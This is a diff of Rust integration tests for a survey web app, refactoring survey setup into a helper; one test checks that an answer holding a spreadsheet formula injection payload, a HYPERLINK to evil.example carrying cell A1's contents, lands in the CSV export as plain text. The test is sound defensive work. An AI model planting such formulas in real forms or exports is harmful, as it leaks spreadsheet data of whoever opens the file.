@@ -173,44 +173,51 @@ async fn every_download_is_whole_with_gzip_and_identity() {
     .await;
 }
 
+/// The HQ creates and opens a public survey of one text question; returns its id and the
+/// question's form field.
+async fn open_text_survey(t: &TestApp, hq: &mut Client, title: &str) -> (i64, String) {
+    let res = hq
+        .post(
+            "/hq/surveys",
+            &[
+                ("title", title),
+                ("fiscal_year", "2026"),
+                ("audience", "public"),
+            ],
+        )
+        .await;
+    let id = id_in_location(&res);
+    let base = format!("/hq/surveys/{id}");
+    let res = hq
+        .post(
+            &format!("{base}/questions"),
+            &[("kind", "text"), ("label", "一言")],
+        )
+        .await;
+    assert_eq!(res.status, StatusCode::SEE_OTHER, "{}", res.body);
+    let res = hq
+        .post(&format!("{base}/status"), &[("status", "open")])
+        .await;
+    assert_eq!(res.status, StatusCode::SEE_OTHER);
+    let (q,): (i64,) = sqlx::query_as("SELECT id FROM survey_questions WHERE survey_id = $1")
+        .bind(id)
+        .fetch_one(&t.app.db)
+        .await
+        .unwrap();
+    (id, format!("q{q}"))
+}
+
 /// A citizen's answer that is a spreadsheet formula reaches the responses CSV as text.
 #[tokio::test]
 async fn a_formula_in_an_answer_reaches_the_csv_as_text() {
     each_backend(|t| async move {
         let t = t.with_demo().await;
         let mut hq = t.signed_in("hq@demo.kyodo.jp").await;
-        let res = hq
-            .post(
-                "/hq/surveys",
-                &[
-                    ("title", "ご意見"),
-                    ("fiscal_year", "2026"),
-                    ("audience", "public"),
-                ],
-            )
-            .await;
-        let id = id_in_location(&res);
+        let (id, field) = open_text_survey(&t, &mut hq, "ご意見").await;
         let base = format!("/hq/surveys/{id}");
-        let res = hq
-            .post(
-                &format!("{base}/questions"),
-                &[("kind", "text"), ("label", "一言")],
-            )
-            .await;
-        assert_eq!(res.status, StatusCode::SEE_OTHER, "{}", res.body);
-        let res = hq
-            .post(&format!("{base}/status"), &[("status", "open")])
-            .await;
-        assert_eq!(res.status, StatusCode::SEE_OTHER);
-        let (q,): (i64,) = sqlx::query_as("SELECT id FROM survey_questions WHERE survey_id = $1")
-            .bind(id)
-            .fetch_one(&t.app.db)
-            .await
-            .unwrap();
         let payload = "=HYPERLINK(\"http://evil.example/?\"&A1,\"詳細\")";
         let mut c = t.client();
         let nonce = nonce_in(&c.get(&format!("/surveys/{id}")).await.body);
-        let field = format!("q{q}");
         let res = c
             .post(
                 &format!("/surveys/{id}"),
@@ -458,35 +465,7 @@ async fn anonymous_answers_are_limited_per_address_and_the_results_say_so() {
     each_backend(|t| async move {
         let t = t.with_demo().await;
         let mut hq = t.signed_in("hq@demo.kyodo.jp").await;
-        let res = hq
-            .post(
-                "/hq/surveys",
-                &[
-                    ("title", "一言"),
-                    ("fiscal_year", "2026"),
-                    ("audience", "public"),
-                ],
-            )
-            .await;
-        let id = id_in_location(&res);
-        let base = format!("/hq/surveys/{id}");
-        hq.post(
-            &format!("{base}/questions"),
-            &[("kind", "text"), ("label", "一言")],
-        )
-        .await;
-        assert_eq!(
-            hq.post(&format!("{base}/status"), &[("status", "open")])
-                .await
-                .status,
-            StatusCode::SEE_OTHER
-        );
-        let (q,): (i64,) = sqlx::query_as("SELECT id FROM survey_questions WHERE survey_id = $1")
-            .bind(id)
-            .fetch_one(&t.app.db)
-            .await
-            .unwrap();
-        let field = format!("q{q}");
+        let (id, field) = open_text_survey(&t, &mut hq, "一言").await;
         for n in 1..=21 {
             // A fresh client each time: no receipt cookie.
             let mut c = t.client();
